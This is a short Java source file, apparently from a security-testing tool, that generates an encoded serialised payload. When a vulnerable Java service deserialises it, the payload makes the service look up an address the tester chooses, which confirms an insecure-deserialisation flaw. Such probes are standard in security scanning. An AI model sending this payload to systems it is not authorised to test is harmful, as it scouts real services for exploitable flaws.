package org.leitplanke.attack;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.ObjectOutputStream;
import java.net.URI;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.HashMap;

/** An object that calls somebody as soon as it is read back. */
final class Serialised {

    private Serialised() {}

    static String url(String address) throws IOException {
        var calls = new HashMap<Object, Object>();
        calls.put(URI.create(address).toURL(), "x");
        var bytes = new ByteArrayOutputStream();
        try (var out = new ObjectOutputStream(bytes)) {
            out.writeObject(calls);
        }
        return URLEncoder.encode(Base64.getEncoder().encodeToString(bytes.toByteArray()), StandardCharsets.UTF_8);
    }
}
